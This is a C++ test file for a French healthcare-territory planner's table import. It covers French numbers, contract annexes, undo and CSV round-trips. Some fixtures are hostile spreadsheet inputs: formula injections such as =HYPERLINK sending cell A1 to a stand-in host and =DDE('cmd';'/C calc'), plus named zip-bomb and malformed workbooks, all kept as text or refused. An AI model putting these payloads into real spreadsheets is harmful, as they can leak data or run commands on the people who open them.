// Tables pasted or imported into a project (issue #16): text and .xlsx grids, French values,
// column guessing, the preview, one undo step, contract annexes in three layouts, the CSV export
// imported back as a no-op, and bad input refused with its row and column, nothing changed.
#include "edit/table_import.hpp"

#include <gtest/gtest.h>

#include <chrono>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "engine/funding.hpp"
#include "io/csv_export.hpp"
#include "io/project_json.hpp"
#include "io/samples.hpp"
#include "io/table_values.hpp"
#include "io/tier_text.hpp"
#include "io/xlsx_reader.hpp"
#include "rules/catalogue.hpp"

using namespace cpts;
using namespace cpts::tables;

namespace {

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}
std::string data(const std::string& name) { return read_file(std::string(CPTS_SOURCE_DIR) + "/tests/data/" + name); }

Project sample(const std::string& id) { return *load_project(sample_text(id)).project; }

Project empty_project() {
  return new_project("CPTS essai", Date{2022, 10, 18}, *find_catalogue(kDefaultCatalogue));
}

CellGrid grid_of(std::string_view text) {
  GridRead g = parse_table_text(text);
  EXPECT_TRUE(g.ok()) << g.error;
  return g.grid.value_or(CellGrid{});
}

ImportPreview preview(const Project& p, TableKind k, std::string_view bytes) {
  GridRead g = read_table_bytes(bytes, "essai");
  EXPECT_TRUE(g.ok()) << g.error;
  CellGrid grid = g.grid.value_or(CellGrid{});
  return preview_import(p, k, grid, guess_mapping(k, grid));
}

std::string all_problems(const ImportPreview& pv) {
  std::string s;
  for (const std::string& p : pv.problems_fr()) s += p + "\n";
  return s;
}

}  // namespace

// ---- Grids ---------------------------------------------------------------------------------------

TEST(TableGrid, ExcelCopyWithQuotedTabsAndLineBreaks) {
  // Excel quotes a cell holding a tab or a line break and doubles its quotes.
  CellGrid g = grid_of("Nom\tNote\r\nDupont\t\"ligne 1\nligne 2\"\r\n\"a\tb\"\t\"dit \"\"bonjour\"\"\"\r\n");
  ASSERT_EQ(g.rows.size(), 3u);
  EXPECT_EQ(g.cell(1, 1), "ligne 1\nligne 2");
  EXPECT_EQ(g.cell(2, 0), "a\tb");
  EXPECT_EQ(g.cell(2, 1), "dit \"bonjour\"");
  EXPECT_EQ(g.rows[2].number, 4u);  // the quoted line break counts as a line of the text
}

TEST(TableGrid, SeparatorDetectedBomAndSepLineSkipped) {
  CellGrid semi = grid_of("\xEF\xBB\xBF" "Commune;Population\r\nMâcon;33 456\r\n");
  EXPECT_EQ(semi.cell(1, 1), "33 456");
  CellGrid comma = grid_of("Commune,Population\nMacon,\"33,5\"\n");
  EXPECT_EQ(comma.cell(1, 1), "33,5");
  CellGrid sep = grid_of("sep=,\nA,B\n1,2\n");
  EXPECT_EQ(sep.rows.size(), 2u);
  EXPECT_EQ(sep.rows[0].number, 2u);
  EXPECT_EQ(sep.cell(1, 1), "2");
}

TEST(TableGrid, UnclosedQuoteAndInvalidUtf8NameTheirPlace) {
  GridRead q = parse_table_text("A\tB\n1\t\"jamais fermé\n");
  EXPECT_FALSE(q.ok());
  EXPECT_NE(q.error.find("ligne 2, colonne B"), std::string::npos) << q.error;
  GridRead u = parse_table_text("A\tB\r\nx\tcaf\xE9\r\n");  // "café" in Windows-1252
  EXPECT_FALSE(u.ok());
  EXPECT_NE(u.error.find("ligne 2, colonne B"), std::string::npos) << u.error;
  EXPECT_NE(u.error.find("UTF-8"), std::string::npos);
}

TEST(TableGrid, HundredThousandRowsRefusedQuickly) {
  std::string text = "Code INSEE\tPopulation\n";
  for (int i = 0; i < 100000; ++i) text += "71306\t1000\n";
  auto t0 = std::chrono::steady_clock::now();
  GridRead g = parse_table_text(text);
  double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
  EXPECT_FALSE(g.ok());
  EXPECT_NE(g.error.find("plus de 10\u202F000 lignes"), std::string::npos) << g.error;
  EXPECT_NE(g.error.find("la ligne 10001 dépasse"), std::string::npos) << g.error;  // header + 9 999 rows fill the 10 000
  EXPECT_LT(ms, 1000.0);  // stops at the limit: ~10 ms natively
  std::printf("100 000 pasted rows refused in %.1f ms\n", ms);
}

TEST(TableGrid, EmptyPasteIsAnEmptyGridAndRefusedByTheImport) {
  CellGrid g = grid_of("");
  EXPECT_TRUE(g.rows.empty());
  ImportPreview pv = preview_import(empty_project(), TableKind::Communes, g, guess_mapping(TableKind::Communes, g));
  EXPECT_FALSE(pv.can_apply());
  ASSERT_FALSE(pv.errors.empty());
  EXPECT_NE(pv.errors[0].find("vide"), std::string::npos) << pv.errors[0];
}

// ---- Values --------------------------------------------------------------------------------------

TEST(TableValues, FrenchNumbersMoneyAndDates) {
  EXPECT_EQ(*parse_cell_cents("1\xE2\x80\xAF" "234,56\xC2\xA0€").value, 123456);  // narrow no-break space, no-break space
  EXPECT_EQ(*parse_cell_cents("1 000 €").value, 100000);
  EXPECT_EQ(*parse_cell_cents("1.234,5").value, 123450);
  EXPECT_EQ(*parse_cell_cents("-12,50").value, -1250);
  EXPECT_FALSE(parse_cell_cents("12,345").value);  // not to the cent
  EXPECT_DOUBLE_EQ(*parse_cell_number("69,70 %").value, 69.7);
  EXPECT_DOUBLE_EQ(*parse_cell_number("12 %").value, 12);
  EXPECT_DOUBLE_EQ(*parse_cell_number("\xE2\x88\x92" "3,5").value, -3.5);  // U+2212
  EXPECT_DOUBLE_EQ(*parse_cell_number("66111").value, 66111);
  EXPECT_FALSE(parse_cell_number("beaucoup").value);
  EXPECT_FALSE(parse_cell_number("=A1+1").value);
  EXPECT_EQ(parse_cell_number("=A1+1").error, "nombre attendu, trouvé « =A1+1 »");
  EXPECT_EQ(*parse_cell_date("18/10/2022").value, (Date{2022, 10, 18}));
  EXPECT_EQ(*parse_cell_date("18/10/22").value, (Date{2022, 10, 18}));
  EXPECT_EQ(*parse_cell_date("2022-10-18").value, (Date{2022, 10, 18}));
  EXPECT_FALSE(parse_cell_date("31/02/2022").value);
  EXPECT_EQ(*parse_cell_integer("33\xE2\x80\xAF" "456").value, 33456);
  EXPECT_EQ(fold_text("Libellé de l’Indicateur"), "libelle de l indicateur");
  EXPECT_EQ(fold_text("ŒUVRE Médico-sociale"), "oeuvre medico sociale");
}

TEST(TierText, OneCellForms) {
  ParsedTiers t = parse_tiers_text("≥ 69,70 % → 1 000 €");
  ASSERT_TRUE(t.error.empty()) << t.error;
  ASSERT_EQ(t.tiers.size(), 1u);
  EXPECT_DOUBLE_EQ(t.tiers[0].threshold, 69.7);
  EXPECT_EQ(t.tiers[0].cents, 100000);
  EXPECT_EQ(*t.direction, Direction::Up);
  // As the CSV export writes them.
  ParsedTiers e = parse_tiers_text("socle : ≤ 219 → 3000,00 € | objectif : ≤ 50 → 9000,00 €");
  ASSERT_EQ(e.tiers.size(), 2u);
  EXPECT_EQ(e.tiers[1].label, "objectif");
  EXPECT_EQ(e.tiers[1].cents, 900000);
  EXPECT_EQ(*e.direction, Direction::Down);
  ParsedTiers ascii = parse_tiers_text(">= 40 % -> 500 €\n>= 50 % -> 1 500 €");
  ASSERT_EQ(ascii.tiers.size(), 2u);
  EXPECT_EQ(ascii.tiers[1].cents, 150000);
  EXPECT_FALSE(parse_tiers_text("≥ 70 %").error.empty());
}

// ---- Communes ------------------------------------------------------------------------------------

TEST(TableImport, ThirtyFourCommunesPastedThenOneUndo) {
  Project p = empty_project();
  ImportPreview pv = preview(p, TableKind::Communes, data("tables/communes-centre-saone-et-loire.tsv"));
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  EXPECT_EQ(pv.created, 34u);
  History h(p);
  ASSERT_TRUE(h.execute(import_command(pv, "Coller un tableau (Communes)")));
  Project expected = sample("cpts-centre-saone-et-loire");
  ASSERT_EQ(h.project().territory.communes.size(), 34u);
  long long total = 0;
  for (std::size_t i = 0; i < 34; ++i) {
    const Commune& got = h.project().territory.communes[i];
    const Commune& want = expected.territory.communes[i];
    EXPECT_EQ(got.insee, want.insee);
    EXPECT_EQ(got.name, want.name);
    EXPECT_EQ(got.department, "71");  // "Saône-et-Loire" in the table
    EXPECT_EQ(got.population, want.population);
    total += got.population;
  }
  EXPECT_EQ(total, 90346);  // the sample's 90 346 inhabitants (cli.simulate_centre_saone_et_loire)
  h.undo();
  EXPECT_EQ(save_project(h.project()), save_project(p));
  // Pasting it again over the sample changes nothing.
  ImportPreview again = preview(expected, TableKind::Communes, data("tables/communes-centre-saone-et-loire.tsv"));
  EXPECT_EQ(again.unchanged, 34u);
  EXPECT_FALSE(again.changes());
}

TEST(TableImport, CommunesUpdatedByInseeAndLeadingZeroRestored) {
  Project p = empty_project();
  p.territory.communes.push_back({"01004", "Ambérieu-en-Bugey", "01", 14000});
  ImportPreview pv = preview(p, TableKind::Communes, "INSEE;Nom;Population\n1004;Ambérieu-en-Bugey;14 514\n01007;Ambronay;2 800\n");
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  EXPECT_EQ(pv.updated, 1u);
  EXPECT_EQ(pv.created, 1u);
  EXPECT_EQ(pv.result.territory.communes[0].population, 14514);
  EXPECT_EQ(pv.result.territory.communes[1].department, "01");  // from the INSEE code
}

// ---- Bad values: row and column named, nothing changed ------------------------------------------

TEST(TableImport, TextWhereANumberBelongsRefusesTheWholeTable) {
  Project p = sample("cpts-centre-saone-et-loire");
  ImportPreview pv = preview(p, TableKind::Communes, "Code INSEE\tCommune\tPopulation\n71306\tMâcon\t33 456\n71076\tChalon\tbeaucoup\n");
  EXPECT_FALSE(pv.can_apply());
  EXPECT_EQ(pv.refused, 1u);
  EXPECT_EQ(all_problems(pv), "ligne 3, colonne C (« Population ») : nombre entier attendu, trouvé « beaucoup »\n");
  History h(p);
  EXPECT_FALSE(h.execute(import_command(pv, "Importer")));
  EXPECT_FALSE(h.can_undo());
  EXPECT_EQ(save_project(h.project()), save_project(p));
}

TEST(TableImport, FormulaInjectionKeptAsTextNeverEvaluated) {
  Project p = empty_project();
  ImportPreview pv = preview(p, TableKind::Professionals,
                             "Nom\tProfession\n=HYPERLINK(\"http://x.example\";\"clic\")\t@SUM(1+1)\n'=1+1\t-2+3\n");
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  ASSERT_EQ(pv.result.professionals.size(), 2u);
  EXPECT_EQ(pv.result.professionals[0].name, "=HYPERLINK(\"http://x.example\";\"clic\")");
  EXPECT_EQ(pv.result.professionals[0].profession, "@SUM(1+1)");
  EXPECT_EQ(pv.result.professionals[1].name, "=1+1");  // the apostrophe our CSV export adds is removed
  EXPECT_EQ(pv.result.professionals[1].profession, "-2+3");
  EXPECT_EQ(pv.result.professionals[1].id, "P2");
}

TEST(TableImport, DuplicateKeyAndUnknownMissionRefused) {
  Project p = empty_project();
  ImportPreview pv = preview(p, TableKind::Professionals, "Nom;Profession\nDr Martin;Médecin\ndr MARTIN;Infirmier\n");
  EXPECT_EQ(pv.refused, 1u);
  EXPECT_NE(all_problems(pv).find("ligne 3, colonne A (« Nom ») : déjà à la ligne 2"), std::string::npos) << all_problems(pv);
  ImportPreview m = preview(p, TableKind::Actions, "Mission;Action\nAstronautique;Fusée\n");
  EXPECT_NE(all_problems(m).find("ligne 2, colonne A (« Mission ») : mission inconnue « Astronautique »"), std::string::npos)
      << all_problems(m);
}

TEST(TableImport, UserChangesTheMapping) {
  Project p = empty_project();
  CellGrid g = grid_of("Libellé\tValeur\tCommentaire\nSans médecin traitant\t13,2 %\tRézone\n");
  Mapping m = guess_mapping(TableKind::Diagnostic, g);
  ASSERT_EQ(m.columns.size(), 3u);
  EXPECT_EQ(m.columns[0], tables::Field::DiagLabel);
  EXPECT_EQ(m.columns[1], tables::Field::DiagValue);
  EXPECT_EQ(m.columns[2], tables::Field::DiagComment);
  m.columns[2] = tables::Field::DiagSource;  // the user says column C is the source
  ImportPreview pv = preview_import(p, TableKind::Diagnostic, g, m);
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  const DiagnosticIndicator& d = pv.result.diagnostic.at(0);
  EXPECT_DOUBLE_EQ(d.value, 13.2);
  EXPECT_EQ(d.unit, "%");
  EXPECT_EQ(d.source, "Rézone");
  EXPECT_EQ(d.comment, "");
}

// ---- Contract annexes ----------------------------------------------------------------------------

namespace {

struct AnnexFigures {
  std::size_t indicators = 0, actions = 0, tiers = 0;
  std::map<std::string, Cents> max_by_mission;
  std::set<std::string> signatures;  // mission | action | label | baseline | targets | tiers
};

AnnexFigures figures(const Project& p) {
  AnnexFigures f;
  f.indicators = p.indicators.size();
  f.actions = p.actions.size();
  for (const Indicator& ind : p.indicators) {
    const Action* a = p.find_action(ind.action);
    f.tiers += ind.tiers.size();
    f.max_by_mission[a->mission] += ind.max_cents();
    std::string s = a->mission + "|" + a->title + "|" + ind.label + "|" + (ind.baseline ? csv_number(*ind.baseline) : "") +
                    "|" + (ind.direction == Direction::Up ? "up" : "down") + "|" + to_word(ind.kind) + "|";
    for (const auto& [y, v] : ind.targets) s += std::to_string(y) + "=" + csv_number(v) + " ";
    for (const Tier& t : ind.tiers) s += csv_number(t.threshold) + "->" + std::to_string(t.cents) + " ";
    f.signatures.insert(s);
  }
  return f;
}

AnnexFigures import_annex(const std::string& file) {
  Project p = empty_project();
  ImportPreview pv = preview(p, TableKind::Indicators, data("tables/" + file));
  EXPECT_TRUE(pv.can_apply()) << file << "\n" << all_problems(pv);
  EXPECT_EQ(pv.created, 40u) << file;
  EXPECT_EQ(pv.actions_created, 16u) << file;
  History h(p);
  EXPECT_TRUE(h.execute(import_command(pv, "Importer l’annexe")));
  AnnexFigures f = figures(h.project());
  h.undo();  // one undo step brings back the project before the import
  EXPECT_EQ(save_project(h.project()), save_project(p)) << file;
  return f;
}

}  // namespace

TEST(TableImport, AnnexTiersInOneCellMissionAsColumn) {
  AnnexFigures f = import_annex("annexe-paliers-une-cellule.tsv");
  EXPECT_EQ(f.indicators, 40u);
  EXPECT_EQ(f.actions, 16u);
  EXPECT_EQ(f.tiers, 52u);
  // Prévention, top tiers: screenings 3 × 3 500 + influenza 3 000 + outreach sessions 1 500 + HPV 2 000
  // + balance workshops 2 000 + fall risk 3 000 = 22 000 €.
  EXPECT_EQ(f.max_by_mission["prevention"], euros(22000));
  // Crises: three deliverables at 0 € (the crisis mission pays its fixed part, §3.2).
  EXPECT_EQ(f.max_by_mission["crise"], 0);
  // The annex's last line, « Total de l’annexe … 145 500 € », is skipped; the top amounts add up to it.
  Cents total = 0;
  for (const auto& [mission, cents] : f.max_by_mission) total += cents;
  EXPECT_EQ(total, euros(145500));
}

TEST(TableImport, AnnexLayoutsGiveTheSameIndicators) {
  AnnexFigures one_cell = import_annex("annexe-paliers-une-cellule.tsv");
  AnnexFigures columns = import_annex("annexe-paliers-en-colonnes.csv");
  EXPECT_EQ(columns.tiers, 52u);
  EXPECT_EQ(columns.max_by_mission, one_cell.max_by_mission);
  EXPECT_EQ(columns.signatures, one_cell.signatures);
  if (!xlsx_reader_available()) GTEST_SKIP() << "no .xlsx reader in this build";
  AnnexFigures merged = import_annex("annexe-mission-fusionnee.xlsx");
  EXPECT_EQ(merged.tiers, 52u);
  EXPECT_EQ(merged.max_by_mission, one_cell.max_by_mission);
  EXPECT_EQ(merged.signatures, one_cell.signatures);
}

TEST(TableImport, AnnexBreastScreeningReadAsWritten) {
  Project p = empty_project();
  ImportPreview pv = preview(p, TableKind::Indicators, data("tables/annexe-paliers-une-cellule.tsv"));
  const Indicator* sein = nullptr;
  for (const Indicator& ind : pv.result.indicators)
    if (ind.label == "Taux de dépistage du cancer du sein") sein = &ind;
  ASSERT_NE(sein, nullptr);
  // Domain reference §3.2: 66,26 % → 69,70 / 72,40 / 75,00 % paid 1 000 / 2 500 / 3 500 €.
  EXPECT_DOUBLE_EQ(*sein->baseline, 66.26);
  EXPECT_EQ(sein->unit, "%");
  ASSERT_EQ(sein->tiers.size(), 3u);
  EXPECT_DOUBLE_EQ(sein->tiers[0].threshold, 69.7);
  EXPECT_EQ(sein->tiers[0].label, "socle");
  EXPECT_EQ(sein->tiers[2].cents, euros(3500));
  EXPECT_DOUBLE_EQ(sein->targets.at(4), 72.4);
  EXPECT_EQ(pv.result.find_action(sein->action)->mission, "prevention");
  EXPECT_EQ(pv.result.find_action(sein->action)->title, "Dépistage organisé des cancers");
}

// ---- The planner's own CSV export comes back as a no-op ---------------------------------------------

TEST(TableImport, IndicatorsCsvExportImportsBackUnchangedOnEverySample) {
  for (const std::string& id : sample_ids()) {
    Project p = sample(id);
    std::string csv = indicators_csv(p, simulate(p, Scenario::Ceiling));
    ImportPreview pv = preview(p, TableKind::Indicators, csv);
    EXPECT_TRUE(pv.errors.empty() && pv.refused == 0) << id << "\n" << all_problems(pv);
    EXPECT_EQ(pv.unchanged, p.indicators.size()) << id;
    EXPECT_FALSE(pv.changes()) << id;
    EXPECT_EQ(save_project(pv.result), save_project(p)) << id;
  }
}

TEST(TableImport, EditedCsvExportUpdatesOnlyWhatChanged) {
  Project p = sample("cpts-centre-saone-et-loire");
  std::string csv = indicators_csv(p, simulate(p, Scenario::Ceiling));
  GridRead g = parse_table_text(csv);
  ASSERT_TRUE(g.ok());
  CellGrid grid = *g.grid;
  Mapping m = guess_mapping(TableKind::Indicators, grid);
  std::size_t actual1 = 0;
  for (std::size_t c = 0; c < m.columns.size(); ++c)
    if (m.columns[c] == tables::Field::Actual1) actual1 = c;
  ASSERT_GT(actual1, 0u);
  grid.rows[1].cells.resize(std::max(grid.rows[1].cells.size(), actual1 + 1));
  grid.rows[1].cells[actual1] = "12,4";  // the coordinator types year 1's actual value
  ImportPreview pv = preview_import(p, TableKind::Indicators, grid, m);
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  EXPECT_EQ(pv.updated, 1u);
  EXPECT_EQ(pv.unchanged, p.indicators.size() - 1);
}

// ---- .xlsx ---------------------------------------------------------------------------------------

TEST(XlsxReader, AnnexWorkbookCellsAsTheSpreadsheetShowsThem) {
  if (!xlsx_reader_available()) GTEST_SKIP() << "no .xlsx reader in this build";
  GridRead g = read_xlsx(data("tables/annexe-mission-fusionnee.xlsx"));
  ASSERT_TRUE(g.ok()) << g.error;
  const CellGrid& grid = *g.grid;
  EXPECT_EQ(grid.cell(0, 0), "Mission");
  EXPECT_EQ(grid.cell(1, 0), "Accès aux soins");
  EXPECT_EQ(grid.cell(2, 0), "Accès aux soins");  // merged down from the first row of the mission
  EXPECT_EQ(grid.cell(1, 11), "3000");            // a number in a "# ##0,00 €" cell
  EXPECT_EQ(grid.cell(1, 12), "9000");            // =MAX(…): its cached value
  bool percent = false;
  for (std::size_t r = 0; r < grid.rows.size(); ++r) percent = percent || grid.cell(r, 4) == "66,26 %";
  EXPECT_TRUE(percent);
}

TEST(XlsxReader, HostileWorkbooksRefusedWithAClearMessage) {
  if (!xlsx_reader_available()) GTEST_SKIP() << "no .xlsx reader in this build";
  struct Case {
    const char* file;
    const char* message;
  } cases[] = {
      {"xlsx-formule-sans-valeur.xlsx", "Formule sans valeur calculée (ligne 2, colonne B)"},
      {"xlsx-erreur-de-formule.xlsx", "Erreur de formule « #DIV/0! » (ligne 2, colonne B)"},
      {"xlsx-protege-par-mot-de-passe.xlsx", "protégé par mot de passe"},
      {"xlsx-tronque.xlsx", "tronqué"},
      {"xlsx-bombe.xlsx", "se décompresse en plus de 64 Mo"},
  };
  for (const Case& c : cases) {
    auto t0 = std::chrono::steady_clock::now();
    GridRead g = read_table_bytes(data(std::string("hostile/") + c.file), c.file);
    double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
    EXPECT_FALSE(g.ok()) << c.file;
    EXPECT_NE(g.error.find(c.message), std::string::npos) << c.file << " : " << g.error;
    EXPECT_LT(ms, 10000.0) << c.file;  // the zip bomb stops at 64 MB inflated (≈ 0.1 s of CPU)
  }
  GridRead not_zip = read_xlsx("PK\x03\x04 pas vraiment une archive");
  EXPECT_FALSE(not_zip.ok());
}

TEST(TableImport, HostileTablesInTheCorpus) {
  // Windows-1252 text: refused with its place, never guessed.
  GridRead latin1 = read_table_bytes(data("hostile/tableau-utf8-invalide.tsv"), "tableau-utf8-invalide.tsv");
  EXPECT_FALSE(latin1.ok());
  EXPECT_NE(latin1.error.find("ligne 3, colonne A"), std::string::npos) << latin1.error;
  // Formula-looking text stays text, character for character.
  ImportPreview pv = preview(empty_project(), TableKind::Professionals, data("hostile/tableau-injection-formules.tsv"));
  ASSERT_TRUE(pv.can_apply()) << all_problems(pv);
  ASSERT_EQ(pv.result.professionals.size(), 2u);
  EXPECT_EQ(pv.result.professionals[0].name, "=HYPERLINK(\"http://exemple.invalid/?x=\"&A1;\"Cliquez\")");
  EXPECT_EQ(pv.result.professionals[1].structure, "=DDE(\"cmd\";\"/C calc\";\"A0\")");
  if (!xlsx_reader_available()) GTEST_SKIP() << "no .xlsx reader in this build";
  // A merge over the whole sheet is clipped to the rows that hold data and to 200 columns.
  GridRead merged = read_xlsx(data("hostile/xlsx-fusion-geante.xlsx"));
  ASSERT_TRUE(merged.ok()) << merged.error;
  EXPECT_EQ(merged.grid->rows.size(), 2u);
  EXPECT_EQ(merged.grid->columns, kMaxTableColumns);
  EXPECT_EQ(merged.grid->cell(1, 1), "33456");
}

TEST(XlsxReader, WithoutTheReaderTheBuildSaysSo) {
  // The wasm build has no .xlsx reader until minizip and expat are built for it: it says so in
  // French (paste and CSV still work); natively the same workbook reads.
  GridRead g = read_table_bytes(data("tables/annexe-mission-fusionnee.xlsx"), "annexe.xlsx");
  if (xlsx_reader_available()) {
    EXPECT_TRUE(g.ok()) << g.error;
  } else {
    EXPECT_FALSE(g.ok());
    EXPECT_NE(g.error.find("n’est pas disponible dans cette version"), std::string::npos) << g.error;
  }
}
